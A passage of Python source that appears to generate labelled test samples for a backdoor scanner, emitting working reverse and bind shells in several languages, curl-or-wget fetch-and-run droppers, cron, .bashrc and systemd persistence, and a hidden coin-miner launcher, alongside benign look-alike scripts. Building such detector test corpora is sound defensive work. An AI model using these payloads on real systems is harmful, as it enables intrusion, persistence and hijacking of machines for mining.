    return _shebang(r, "sh") + _comment(g, "#") + wrap_shell(g, code)


def t_sh_fetch_run(g):
    """Download and run: pipes to a shell from an IP or plain HTTP, or saved to a temp
    dot file, made executable and started."""
    r = g.rng
    h = _ip(r)
    u = "http://%s%s/%s" % (h, r.choice(["", ":8080", ":81"]), r.choice(["i.sh", "x", "b.pl", "update"]))
    d = r.choice(["/tmp/.x", "/var/tmp/.cache", "/dev/shm/.u", "/tmp/.ICE-unix/.s"])
    v = {"u": u, "d": d, "a": _name(g)}
    code = r.choice([
        "curl -fsSL %(u)s | sh\n",
        "wget -qO- %(u)s | bash -s\n",
        "(curl -s %(u)s || wget -q -O- %(u)s) | sh\n",
        "%(a)s=%(u)s\ncurl -k -s \"$%(a)s\" | bash\n",
        "cd /tmp; wget -q %(u)s -O %(d)s; chmod +x %(d)s; %(d)s >/dev/null 2>&1 &\n",
        "curl -o %(d)s %(u)s && chmod 755 %(d)s && nohup %(d)s &\n",
        "wget %(u)s -O %(d)s 2>/dev/null; perl %(d)s; rm -f %(d)s\n",
        "bash -c \"$(curl -fsSL %(u)s)\"\n",
        "sh <(wget -O - %(u)s)\n",
        "for c in curl wget; do command -v $c && break; done\n[ $c = curl ] && curl -s %(u)s -o %(d)s || wget -q %(u)s -O %(d)s\nchmod +x %(d)s && %(d)s\n",
    ]) % v
    return _shebang(r, "sh") + _comment(g, "#") + wrap_shell(g, code)


def t_sh_persist(g):
    """Persistence: a crontab entry, a .bashrc line, a systemd user unit that starts a
    fetched or hidden payload."""
    r = g.rng
    h = _ip(r)
    u = "http://%s/%s" % (h, r.choice(["s", "a.sh", "k"]))
    hid = r.choice(["/tmp/.ssh-agent", "$HOME/.local/.d", "/dev/shm/.kde", "/var/tmp/.update"])
    code = r.choice([
        "(crontab -l 2>/dev/null; echo \"*/5 * * * * curl -fsSL %(u)s | sh\") | crontab -\n",
        "echo '* * * * * wget -q -O- %(u)s | bash >/dev/null 2>&1' | crontab -\n",
        "echo 'nohup %(hid)s >/dev/null 2>&1 &' >> ~/.bashrc\n"
        "wget -q %(u)s -O %(hid)s && chmod +x %(hid)s\n",
        "mkdir -p ~/.config/systemd/user\ncat > ~/.config/systemd/user/dbus-helper.service <<EOF\n"
        "[Unit]\nDescription=D-Bus helper\n[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/%(h)s/%(p)d 0>&1'\n"
        "Restart=always\nRestartSec=60\n[Install]\nWantedBy=default.target\nEOF\n"
        "systemctl --user daemon-reload; systemctl --user enable --now dbus-helper.service\n",
        "curl -s %(u)s -o %(hid)s; chmod +x %(hid)s\n"
        "(crontab -l; echo \"@reboot %(hid)s\") | sort -u | crontab -\n",
    ]) % {"u": u, "hid": hid, "h": h, "p": _port(r)}
    return _shebang(r, "sh") + _comment(g, "#") + wrap_shell(g, code)


def t_sh_miner(g):
    """A coin miner launcher: fetch, unpack into a hidden dir, kill competitors, start
    with a pool URL and a wallet."""
    r = g.rng
    h = _ip(r)
    pool = r.choice(["stratum+tcp://%s:3333" % h, "stratum+ssl://pool.example.net:443",
                     "%s:14444" % h, "stratum+tcp://xmr.example.org:5555"])
    wal = "4" + r.choice("0123456789AB") + "".join(r.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(93))
    d = r.choice(["/tmp/.X11", "/var/tmp/.sys", "$HOME/.cache/.k", "/dev/shm/.m"])
    b = r.choice(["kthreadd", "xmr", "sysupdate", "kworkerds", "ld-linux"])
    k = r.choice(["cli", "config"])
    head = ("pkill -f xmrig; pkill -f minerd; killall -9 kdevtmpfsi 2>/dev/null\n"
            "mkdir -p %(d)s && cd %(d)s\n"
            "curl -fsSL http://%(h)s/m.tar.gz -o m.tar.gz || wget -q http://%(h)s/m.tar.gz\n"
            "tar xzf m.tar.gz && rm -f m.tar.gz && mv xmrig %(b)s && chmod +x %(b)s\n")
    if k == "cli":
        tail = ("nohup ./%(b)s -o %(pool)s -u %(wal)s -p x -k --donate-level 1 --cpu-max-threads-hint=75 "
                "-B >/dev/null 2>&1 &\n")
    else:
        tail = ("cat > config.json <<EOF\n{\"autosave\": false, \"cpu\": {\"enabled\": true, \"max-threads-hint\": 80},\n"
                " \"pools\": [{\"url\": \"%(pool)s\", \"user\": \"%(wal)s\", \"pass\": \"x\", \"keepalive\": true}]}\nEOF\n"
                "nohup ./%(b)s -c config.json >/dev/null 2>&1 &\n")
    code = (head + tail) % {"d": d, "h": h, "b": b, "pool": pool, "wal": wal}
    return _shebang(r, "sh") + _comment(g, "#") + wrap_shell(g, code)


# ---------------------------------------------------------------------------
# Node, Ruby, PHP-CLI, awk, Lua


def t_node_shell(g):
    r = g.rng
    v = {"h": _ip(r), "p": _port(r), "c": _name(g), "s": _name(g), "cp": _name(g), "n": _name(g)}
    code = r.choice([
        """const %(n)s = require('net'), %(cp)s = require('child_process');
const %(s)s = %(cp)s.spawn('/bin/sh', ['-i']);
const %(c)s = new %(n)s.Socket();
%(c)s.connect(%(p)d, '%(h)s', () => {
  %(c)s.pipe(%(s)s.stdin);
  %(s)s.stdout.pipe(%(c)s);
  %(s)s.stderr.pipe(%(c)s);
});
""",
        """var %(n)s = require("net");
var { exec } = require("child_process");
var %(c)s = %(n)s.connect({ host: "%(h)s", port: %(p)d });
%(c)s.on("data", function (d) {
  exec(d.toString().trim(), function (e, out, err) { %(c)s.write(out + err); });
});
%(c)s.on("close", function () { setTimeout(function () { process.exit(0); }, 1000); });
""",
        """(function(){
  var %(n)s = require('net'), %(cp)s = require('child_process'), %(s)s = %(cp)s.spawn('sh', []);
  var %(c)s = %(n)s.createServer(function (k) { k.pipe(%(s)s.stdin); %(s)s.stdout.pipe(k); });
  %(c)s.listen(%(p)d);
})();
""",
    ]) % v
    return _shebang(r, "js") + _comment(g, "//") + wrap_js(g, code)


def t_ruby_shell(g):
    r = g.rng
    v = {"h": _ip(r), "p": _port(r), "s": _name(g), "c": _name(g)}
    code = r.choice([
        """require 'socket'
%(s)s = TCPSocket.new('%(h)s', %(p)d)
while (%(c)s = %(s)s.gets)
  IO.popen(%(c)s, 'r') { |io| %(s)s.print io.read }
end
""",
        """require 'socket'
%(s)s = TCPSocket.open("%(h)s", %(p)d).to_i
exec sprintf("/bin/sh -i <&%%d >&%%d 2>&%%d", %(s)s, %(s)s, %(s)s)
""",
        """require 'socket'
srv = TCPServer.new(%(p)d)
loop do
  %(s)s = srv.accept
  fork do
    $stdin.reopen(%(s)s); $stdout.reopen(%(s)s); $stderr.reopen(%(s)s)
    exec '/bin/bash', '-i'
  end
end
""",
    ]) % v
    return _shebang(r, "rb") + _comment(g, "#") + wrap_ruby(g, code)


def t_php_cli_shell(g):
    r = g.rng
    v = {"h": _ip(r), "p": _port(r), "s": _name(g), "pp": _name(g), "d": _name(g)}
    code = r.choice([
        """<?php
$%(s)s = fsockopen('%(h)s', %(p)d);
$%(d)s = array(0 => $%(s)s, 1 => $%(s)s, 2 => $%(s)s);
$%(pp)s = proc_open('/bin/sh -i', $%(d)s, $pipes);
""",
        """<?php
set_time_limit(0);
$%(s)s = stream_socket_client('tcp://%(h)s:%(p)d', $en, $es, 30);
while (!feof($%(s)s)) {
    $%(d)s = trim(fgets($%(s)s, 4096));
    if ($%(d)s === 'exit') break;
    fwrite($%(s)s, shell_exec($%(d)s . ' 2>&1'));
}
""",
        """<?php
$%(s)s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
socket_connect($%(s)s, "%(h)s", %(p)d);
$%(pp)s = proc_open("/bin/bash", [0 => ["pipe", "r"], 1 => ["pipe", "w"], 2 => ["pipe", "w"]], $io);
while (true) {
    $%(d)s = socket_read($%(s)s, 2048, PHP_NORMAL_READ);
    fwrite($io[0], $%(d)s);
    usleep(200000);
    socket_write($%(s)s, stream_get_contents($io[1]));
}
""",
    ]) % v
    return _shebang(r, "php") + code


def t_awk_inet(g):
    r = g.rng
    v = {"h": _ip(r), "p": _port(r), "s": _name(g), "c": _name(g)}
    body = """BEGIN {
    %(s)s = "/inet/tcp/0/%(h)s/%(p)d"
    while (1) {
        printf "$ " |& %(s)s
        %(s)s |& getline %(c)s
        if (%(c)s == "exit") exit
        while ((%(c)s |& getline line) > 0)
            print line |& %(s)s
        close(%(c)s)
    }
}
""" % v
    if r.random() < 0.5:
        g.transforms.add("awk_in_sh")
        return _shebang(r, "sh") + "gawk '%s' >/dev/null 2>&1 &\n" % body.replace("'", "")
    return _shebang(r, "awk") + body


def t_lua_shell(g):
    r = g.rng
    v = {"h": _ip(r), "p": _port(r), "t": _name(g), "c": _name(g), "f": _name(g)}
    code = """local socket = require("socket")
local %(t)s = assert(socket.tcp())
%(t)s:connect("%(h)s", %(p)d)
while true do
  local %(c)s, status = %(t)s:receive()
  if status == "closed" then break end
  local %(f)s = assert(io.popen(%(c)s, "r"))
  %(t)s:send(%(f)s:read("*a"))
  %(f)s:close()
end
%(t)s:close()
""" % v
    return _shebang(r, "lua") + _comment(g, "--") + code


# ---------------------------------------------------------------------------
# benign look-alikes


def b_metrics_agent(g):
    """Sends fixed command output to a metrics server over a socket (graphite plaintext)."""
    r = g.rng
    s = _name(g)
    return _shebang(r, "py") + """\"\"\"Push disk and load figures to the graphite relay every minute.\"\"\"
import socket, subprocess, time, os

RELAY = (os.environ.get('GRAPHITE_HOST', 'graphite.internal'), 2003)
PREFIX = 'servers.' + socket.gethostname().replace('.', '_')

def disk():
    out = subprocess.check_output(['df', '-P', '-k'], text=True)
    for row in out.splitlines()[1:]:
        f = row.split()
        yield 'disk.%%s.used' %% f[5].strip('/').replace('/', '_') or 'root', int(f[2])

while True:
    now = int(time.time())
    %(s)s = socket.create_connection(RELAY, timeout=5)
    for k, v in disk():
        %(s)s.sendall(('%%s.%%s %%d %%d\\n' %% (PREFIX, k, v, now)).encode())
    %(s)s.sendall(('%%s.load1 %%s %%d\\n' %% (PREFIX, os.getloadavg()[0], now)).encode())
    %(s)s.close()
    time.sleep(60)
""" % {"s": s}


def b_smtp_check_pl(g):
    """Checks every relay in a list answers SMTP; mails the admin one report."""
    r = g.rng
    return _shebang(r, "pl") + """# check_relays: every relay of relays.txt must answer EHLO; one report to the admins
use strict;
use warnings;
use Net::SMTP;
my @down;
open(my $fh, '<', '/etc/mail/relays.txt') or die "relays.txt: $!";
while (my $relay = <$fh>) {
    chomp $relay;
    next if $relay =~ /^\\s*(#|$)/;
    my $smtp = Net::SMTP->new($relay, Port => 25, Timeout => 10, Hello => 'monitor.example.com');
    if ($smtp) { $smtp->quit; } else { push @down, $relay; }
}
close $fh;
exit 0 unless @down;
my $smtp = Net::SMTP->new('localhost') or die "no local MTA";
$smtp->mail('monitor@example.com');
$smtp->to('postmaster@example.com');
$smtp->data();
$smtp->datasend("Subject: relays down\\n\\n" . join("\\n", @down) . "\\n");
$smtp->dataend();
$smtp->quit;
"""


def b_smtp_check_py(g):
    """Can we talk SMTP to each MX of our domains (EHLO, no mail sent)?"""
    r = g.rng
    return _shebang(r, "py") + """\"\"\"Nagios-style check: can we talk SMTP to each MX of our domains?\"\"\"
import smtplib, sys
import dns.resolver

bad = []
for domain in sys.argv[1:]:
    for rr in dns.resolver.resolve(domain, 'MX'):
        host = str(rr.exchange).rstrip('.')
        try:
            with smtplib.SMTP(host, 25, timeout=10) as s:
                code, _ = s.ehlo()
                if code != 250:
                    bad.append(host)
        except (OSError, smtplib.SMTPException):
            bad.append(host)
if bad:
    print('CRITICAL: ' + ', '.join(bad))
    sys.exit(2)
print('OK')
"""


def b_deploy_script(g):
    r = g.rng
    return _shebang(r, "sh") + """# deploy.sh: build and roll out the site to the web nodes
set -euo pipefail
RELEASE=$(date +%%Y%%m%%d%%H%%M%%S)
HOSTS=${HOSTS:-"web1.example.com web2.example.com"}
git fetch --tags origin && git checkout -q "${1:-main}"
composer install --no-dev --optimize-autoloader
npm ci && npm run build
tar czf /tmp/site-$RELEASE.tgz --exclude=.git .
for h in $HOSTS; do
    scp -q /tmp/site-$RELEASE.tgz "deploy@$h:/srv/releases/"
    ssh "deploy@$h" "mkdir -p /srv/releases/$RELEASE && tar xzf /srv/releases/site-$RELEASE.tgz -C /srv/releases/$RELEASE && ln -sfn /srv/releases/$RELEASE /srv/current && sudo systemctl reload php8.2-fpm"
done
curl -fsS -X POST -H 'Content-Type: application/json' -d "{\\"text\\":\\"deployed $RELEASE\\"}" "$SLACK_WEBHOOK" >/dev/null || true
rm -f /tmp/site-$RELEASE.tgz
""" % ()


def b_irc_client_lib(g):
    """An IRC client library with a plugin answering !help and !uptime with fixed text."""
    r = g.rng
    return _shebang(r, "py") + """\"\"\"Tiny IRC client used by the build notifier. Commands are answered from a
fixed table; nothing from the channel is ever run.\"\"\"
import socket, ssl, time

class Client:
    def __init__(self, host, port=6697, nick='buildbot', channels=()):
        self.host, self.port, self.nick, self.channels = host, port, nick, channels
        self.sock = None
        self.started = time.time()
        self.commands = {'!help': self.help, '!uptime': self.uptime}

    def connect(self):
        raw = socket.create_connection((self.host, self.port), timeout=300)
        self.sock = ssl.create_default_context().wrap_socket(raw, server_hostname=self.host)
        self.send('NICK ' + self.nick)
        self.send('USER %s 0 * :build notifier' % self.nick)

    def send(self, line):
        self.sock.sendall((line + '\\r\\n').encode())

    def help(self, target):
        self.send('PRIVMSG %s :commands: !help !uptime' % target)

    def uptime(self, target):
        self.send('PRIVMSG %s :up %d s' % (target, time.time() - self.started))

    def loop(self):
        buf = b''
        while True:
            buf += self.sock.recv(4096)
            while b'\\r\\n' in buf:
                line, buf = buf.split(b'\\r\\n', 1)
                line = line.decode('utf-8', 'replace')
                if line.startswith('PING'):
                    self.send('PONG' + line[4:])
                elif ' 001 ' in line:
                    for c in self.channels:
                        self.send('JOIN ' + c)
                elif ' PRIVMSG ' in line:
                    target, text = line.split(' ')[2], line.split(' :', 1)[-1].strip()
                    handler = self.commands.get(text)
                    if handler:
                        handler(target)
"""


def b_backup_script(g):
    r = g.rng
    return _shebang(r, "sh") + """# nightly backup of the databases and the docroot to object storage
set -eu
umask 077
DEST=/var/backups/site
STAMP=$(date +%F)
mkdir -p "$DEST"
mysqldump --single-transaction --all-databases | gzip > "$DEST/db-$STAMP.sql.gz"
tar czf "$DEST/files-$STAMP.tgz" -C /var/www html
for f in "$DEST"/*-"$STAMP".*; do
    curl -fsS --retry 3 -T "$f" -u "$BACKUP_USER:$BACKUP_PASS" "https://backup.example.com/upload/$(hostname)/"
done
find "$DEST" -type f -mtime +14 -delete
# install ourselves in cron once
crontab -l 2>/dev/null | grep -q backup.sh || (crontab -l 2>/dev/null; echo "30 2 * * * $PWD/backup.sh") | crontab -
"""


def b_install_readme(g):
    return """# exampletool

## Install

    curl -fsSL https://get.example.com/install.sh | sh

or, if you prefer to read it first:

    wget https://get.example.com/install.sh
    less install.sh && sh install.sh

## Debugging a remote box

Our support team may ask you to open a reverse tunnel, never a shell:

    ssh -R 2222:localhost:22 support@help.example.com

Never paste commands like `bash -i >& /dev/tcp/...` that strangers send you.
"""


def b_admin_notify(g):
    """Mails each admin of a fixed list once: a loop with a variable recipient."""
    r = g.rng
    return _shebang(r, "py") + """\"\"\"Cron job: tell the admins when the disk is almost full.\"\"\"
import shutil, smtplib, socket
from email.message import EmailMessage

ADMINS = ['ops@example.com', 'oncall@example.com']
total, used, free = shutil.disk_usage('/')
if free / total < 0.1:
    msg = EmailMessage()
    msg['Subject'] = 'disk almost full on ' + socket.gethostname()
    msg['From'] = 'root@' + socket.getfqdn()
    msg.set_content('%d%% free' % (100 * free / total))
    with smtplib.SMTP('localhost') as s:
        for admin in ADMINS:
            del msg['To']
            msg['To'] = admin
            s.send_message(msg)
"""


def b_port_check(g):
    r = g.rng
    return _shebang(r, "sh") + """# wait-for: block until a TCP port answers (used by the container entrypoint)
host=${1:?host}; port=${2:?port}; tries=${3:-30}
i=0
until timeout 1 bash -c "</dev/tcp/$host/$port" 2>/dev/null; do
    i=$((i + 1))
    [ "$i" -ge "$tries" ] && { echo "wait-for: $host:$port not up" >&2; exit 1; }
    sleep 1
done
exec "${@:4}"
"""


def b_perl_daemon(g):
    """A Perl daemon that forks, renames itself and serves a fixed status page on a socket."""
    r = g.rng
    return _shebang(r, "pl") + """# statusd: answer the load balancer's health probe with the app's status
use strict;
use warnings;
use IO::Socket::INET;
use POSIX qw(setsid);
$0 = 'statusd';
exit if fork;
setsid();
open STDIN, '<', '/dev/null';
open STDOUT, '>>', '/var/log/statusd.log';
open STDERR, '>&', \\*STDOUT;
my $srv = IO::Socket::INET->new(LocalPort => 8099, Listen => 10, ReuseAddr => 1) or die $!;
while (my $c = $srv->accept) {
    my $req = <$c>;
    my $ok = -e '/srv/app/maintenance' ? 'maintenance' : 'ok';
    print $c "HTTP/1.0 200 OK\\r\\nContent-Type: text/plain\\r\\n\\r\\n$ok\\n";
    close $c;
}
"""


# name, function, class, language (extension), expect
SCRIPT_TEMPLATES = [
    ("pl_irc_select", t_pl_irc_select, "malicious", "pl", "high"),
    ("pl_irc_rawsocket", t_pl_irc_rawsocket, "malicious", "pl", "high"),
    ("pl_flooder", t_pl_flooder, "malicious", "pl", "high"),
    ("pl_revshell_fd", t_pl_revshell_fd, "malicious", "pl", "high"),
    ("pl_smtp_list", t_pl_smtp_list, "malicious", "pl", "high"),
    ("py_irc_bot", t_py_irc_bot, "malicious", "py", "high"),
    ("py_pty_revshell", t_py_pty_revshell, "malicious", "py", "high"),
    ("py_bind_shell", t_py_bind_shell, "malicious", "py", "high"),
    ("py_ssh_brute", t_py_ssh_brute, "malicious", "py", "high"),
    ("py_smtplib_spam", t_py_smtplib_spam, "malicious", "py", "high"),
    ("py_in_shell", t_py_in_shell, "malicious", "sh", "high"),
    ("sh_devtcp", t_sh_devtcp, "malicious", "sh", "high"),
    ("sh_pipe_shells", t_sh_pipe_shells, "malicious", "sh", "high"),
    ("sh_fetch_run", t_sh_fetch_run, "malicious", "sh", "high"),
    ("sh_persist", t_sh_persist, "malicious", "sh", "high"),
    ("sh_miner", t_sh_miner, "malicious", "sh", "high"),
    ("node_shell", t_node_shell, "malicious", "js", "high"),
    ("ruby_shell", t_ruby_shell, "malicious", "rb", "high"),
    ("php_cli_shell", t_php_cli_shell, "malicious", "php", "high"),
    ("awk_inet", t_awk_inet, "malicious", "awk", "high"),
    ("lua_shell", t_lua_shell, "malicious", "lua", "high"),
    ("metrics_agent", b_metrics_agent, "benign", "py", "none"),
    ("smtp_check_pl", b_smtp_check_pl, "benign", "pl", "none"),
    ("smtp_check_py", b_smtp_check_py, "benign", "py", "none"),
    ("deploy_script", b_deploy_script, "benign", "sh", "none"),
    ("irc_client_lib", b_irc_client_lib, "benign", "py", "none"),
    ("backup_script", b_backup_script, "benign", "sh", "none"),
    ("install_readme", b_install_readme, "benign", "md", "none"),
    ("admin_notify", b_admin_notify, "benign", "py", "none"),
    ("port_check", b_port_check, "benign", "sh", "none"),
    ("perl_daemon", b_perl_daemon, "benign", "pl", "none"),
]


def main():
    """Write only these templates' variants (for tests/integration/scan_scripts.sh):
    scriptgen.py --out DIR [--seed N] [--per N]; variants.tsv as gen_variants.py."""
    import argparse
    import hashlib
    import os
    import random
    import sys
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    from phpgen import Gen
    from gen_variants import safe_out_dir
    ap = argparse.ArgumentParser(description="script backdoor variants")
    ap.add_argument("--out", required=True)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--per", type=int, default=4)
    ap.add_argument("--plain", action="store_true", help="no encoding layers")
    a = ap.parse_args()
    WRAP[0] = not a.plain
    out = safe_out_dir(a.out)
    os.makedirs(out, exist_ok=True)
    with open(os.path.join(out, "variants.tsv"), "w") as tsv:
        tsv.write("file\tclass\ttechnique\tlang\texpect\ttransforms\n")
        for name, fn, cls, lang, expect in SCRIPT_TEMPLATES:
            for i in range(a.per):
                tag = "scripts:%s:%s:%d" % (a.seed, name, i)
                g = Gen(random.Random(tag), noise=False)
                g.malicious = cls == "malicious"
                text = fn(g)
                fname = hashlib.sha256(tag.encode()).hexdigest()[:12] + "." + lang
                with open(os.path.join(out, fname), "wb") as f:
                    f.write(text.encode("latin-1"))
                tsv.write("\t".join((fname, cls, name, lang, expect, ",".join(sorted(g.transforms)) or "-")) + "\n")


if __name__ == "__main__":
    main()
